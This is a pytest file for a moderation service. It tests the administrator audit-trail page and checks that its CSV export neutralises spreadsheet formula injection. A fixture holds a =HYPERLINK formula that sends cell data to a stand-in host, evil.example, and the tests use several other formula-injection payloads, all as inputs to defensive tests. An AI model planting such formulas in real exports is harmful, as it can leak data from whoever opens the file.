"""The audit trail as a page for administrators, and whole as a table that runs nothing in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator

import pytest

from moderation.clock import new_id
from moderation.console.audit_table import as_csv
from moderation.domain import Role, TrailEntry
from moderation.web.server import RunningServer
from moderation.wiring import Service
from moderation.workflows.erase import erase_author
from moderation.workflows.sites import set_site
from tests.bad_inputs import strings
from tests.doors.browser import Browser, a_browser, an_account
from tests.doors.newsroom import Desk, a_desk, held
from tests.doors.site_system import SiteSystem
from tests.fakes import FakeClock

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"open")'

pytestmark = pytest.mark.usefixtures("no_flood_limit")


@pytest.fixture
async def lee(service: Service, site: SiteSystem) -> Desk:
    """A moderator whose name is a formula."""
    return await a_desk(service, site, name="=lee")


@pytest.fixture
async def busy_day(site: SiteSystem, lee: Desk, clock: FakeClock) -> str:
    """Several things, an hour apart; returns the id of the comment."""
    comment = await held(site, "c-1")
    author = (await lee.case(comment))["author"]["id"]
    article = (await lee.ask("GET", f"/v1/sites/{site.slug}/articles")).json["items"][0]["key"]
    clock.advance(hours=1)
    decided = await lee.decide(comment, "rejected", "hate", note=FORMULA)
    clock.advance(hours=1)
    assert (await lee.ask("POST", f"/v1/decisions/{decided.json['id']}/undo")).status == 201
    clock.advance(hours=1)
    standing = {"standing": "banned", "until": "2027-01-01T00:00:00+14:00", "reason": "<b>again</b>"}
    assert (await lee.ask("POST", f"/v1/authors/{author}/standing", standing)).status == 200
    clock.advance(hours=22)
    assert (await lee.ask("PATCH", f"/v1/articles/{article}", {"comments": "closed"})).status == 200
    return comment


@pytest.fixture
async def root(server: RunningServer, service: Service, site: SiteSystem, busy_day: str) -> AsyncIterator[Browser]:
    """The browser of an administrator who comes when the day is over."""
    await an_account(service, "root", Role.ADMIN, [site.slug])
    async with a_browser(server) as browser:
        await browser.log_in("root")
        yield browser


def lines(text: str) -> list[str]:
    """Returns what was done, as the page tells it."""
    return re.findall(r'<div class="done-so"><span><b>(.*?)</b>', text)


async def test_who_did_what_is_told_in_words_with_how_it_was_before(root: Browser, busy_day: str) -> None:
    page = await root.get("/console/audit")

    assert lines(page.text)[:6] == [
        "Logged in",
        "Account added",
        "Article switched",
        "Author judged",
        "Undone, so: Waiting",
        "Rejected",
    ]
    for told in (
        "Comments: <bdi>open → closed</bdi>",
        "Stands: <bdi>as everybody → banned</bdi>",
        "Reason: <bdi>&lt;b&gt;again&lt;/b&gt;</bdi>",
        "Reason: <bdi>hate</bdi>",
        "Until: <bdi>31 Dec 2026, 10:00 UTC</bdi>",
        f'href="/console/comments/{busy_day}"',
    ):
        assert told in page.text, told
    root.headers["Accept-Language"] = "de"
    assert lines((await root.get("/console/audit?kind=article")).text)[0] == "Artikel umgeschaltet"


async def test_what_no_account_has_done_is_told_and_found_in_ones_own_language(
    root: Browser, service: Service, site: SiteSystem
) -> None:
    await set_site(
        site.slug, {"max_links": 1}, open_work=service.open_work, defaults=service.house.defaults, now=service.now()
    )
    root.headers["Accept-Language"] = "de"

    shown = await root.get("/console/audit?person=Kommandozeile")
    table = await root.get("/console/audit.csv?person=Kommandozeile")

    assert '<bdi class="who">Kommandozeile</bdi>' in shown.text
    assert '<bdi class="who">root</bdi>' not in shown.text
    assert '"command line"' in table.text


async def test_no_link_leads_to_an_author_who_was_erased(
    root: Browser, service: Service, lee: Desk, site: SiteSystem, busy_day: str
) -> None:
    ada = await a_desk(service, site, role=Role.ADMIN, name="ada")
    reveal = f"/v1/comments/{busy_day}/author-email"
    revealed = await ada.ask("POST", reveal, {"reason": "a court asks"})
    before = (await root.get("/console/audit?kind=author")).text
    house = service.house
    await erase_author(
        site.slug, revealed.json["email"], open_work=service.open_work, vault=house.vault, now=service.now
    )

    after = (await root.get("/console/audit?kind=author")).text

    author, comment = 'href="/console/authors/', f'href="/console/comments/{busy_day}"'
    assert (author in before, comment in before) == (True, True)
    assert (author in after, comment in after) == (False, False)
    assert lines(after) == ["Person erased", *lines(before)]
    assert "a court asks" in after


async def test_the_trail_is_filtered_by_kind_person_day_and_comment(root: Browser, busy_day: str) -> None:
    async def found(query: str) -> list[str]:
        return lines((await root.get(f"/console/audit?{query}")).text)

    assert await found("kind=author") == ["Author judged"]
    assert await found("person=%3Dlee&until=2026-11-23&kind=") == ["Author judged", "Undone, so: Waiting", "Rejected"]
    assert await found("since=2026-11-24&kind=article") == ["Article switched"]
    assert await found(f"comment={busy_day}") == ["Undone, so: Waiting", "Rejected"]
    assert await found("since=2026-11-23T12:30:00Z&until=2026-11-23T13:30:00Z") == ["Author judged"]
    for query in ("kind=x", "since=yesterday", "until=2026-02-30", "comment=1", "cursor=x"):
        page = await root.get(f"/console/audit?{query}")
        assert (page.status, lines(page.text)) == (422, []), query
        assert (await root.get(f"/console/audit.csv?{query}")).status == 422, query


async def test_pages_of_the_trail_keep_the_filter(
    root: Browser, busy_day: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("moderation.console.audit.PER_PAGE", 1)

    first = await root.get("/console/audit?kind=decision")
    [further] = re.findall(r'rel="next" href="([^"]*)"', first.text)
    second = await root.get(further.replace("&amp;", "&"))

    assert lines(first.text) + lines(second.text) == ["Undone, so: Waiting", "Rejected"]
    assert 'rel="next"' not in second.text


async def test_the_whole_trail_is_written_out_as_a_table(
    root: Browser, busy_day: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("moderation.workflows.trail._AT_ONCE", 2)  # so that it takes several parts

    head = await root.ask("HEAD", "/console/audit.csv?person=%3Dlee", headers={})
    answer = await root.get("/console/audit.csv?person=%3Dlee")
    table = list(csv.DictReader(io.StringIO(answer.text, newline=""), strict=True))

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="audit-daily-planet.csv"'
    assert (head.status, head.text, head.headers["Content-Type"]) == (200, "", answer.headers["Content-Type"])
    assert answer.text.endswith("\r\n")
    assert [row["action"] for row in table] == ["article.set", "author.standing", "decision", "decision"]
    assert {row["person"] for row in table} == {"'=lee"}
    assert json.loads(table[-1]["details"])["note"] == FORMULA
    assert table[-1]["time"] == "2026-11-23T11:00:00Z"
    assert table[-1]["comment"] == busy_day


@pytest.mark.parametrize("behind", ["=1+1", " \t=1+1", "+1", "-1", "@SUM(A1)", "＝1", '"=1+1', '""=1+1', ";=1+1"])
def test_nothing_is_calculated_where_cells_are_parted_at_semicolons(behind: str) -> None:
    moment = FakeClock()()
    text = f"Look; twice;{behind};"
    entry = TrailEntry(new_id(moment), text, "decision", moment, text, None, {"note": text})

    line = as_csv([entry]).decode()

    parted = [cell.lstrip(' \t\xa0"') for cell in line.split(";")]
    assert len(parted) > 6
    assert not [cell for cell in parted if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
    assert "Look; twice;" in line


def test_no_cell_begins_what_a_spreadsheet_would_calculate() -> None:
    odd = [text for text in strings() if "\0" not in text and text.isprintable()] + [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\ufeff=1", "|cmd", "a\r\nb", 'a"b', ""),
    ]
    moment = FakeClock()()
    entries = [TrailEntry(new_id(moment), text, text, moment, text, None, {"x": text}) for text in odd]

    rows = list(csv.reader(io.StringIO(as_csv(entries).decode(), newline=""), strict=True))

    assert len(rows) == len(entries)
    for row, text in zip(rows, odd, strict=True):
        assert _unguarded(row[1]) == _unguarded(text).encode("utf-8", "replace").decode()
        assert len(row[1]) <= len(text) + text.count(";") + 1
        for cell in row:
            assert not cell.lstrip(" \t\r\n\ufeff\xa0").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def _unguarded(text: str) -> str:
    """Returns a text without an apostrophe at its begin, and behind semicolons."""
    return re.sub("(?:^|(?<=;))'", "", text)
